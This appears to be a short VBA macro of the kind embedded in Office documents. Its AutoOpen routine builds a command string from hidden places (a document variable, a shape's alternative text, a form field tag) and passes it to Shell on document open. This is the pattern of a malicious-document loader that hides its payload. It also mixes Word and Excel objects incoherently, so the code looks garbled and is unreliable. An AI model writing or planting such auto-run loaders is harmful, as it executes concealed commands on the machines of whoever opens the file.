Sub AutoOpen()
s = ActiveDocument.Variables("v").Value & ThisDocument.Shapes(1).AlternativeText
Shell s & UserForm1.Box.Tag
ExecuteExcel4Macro "ALERT(1)"
Range("A1").Formula = "=1": Cells(2, 3) = Sheets("x").Range("B2")
End Sub
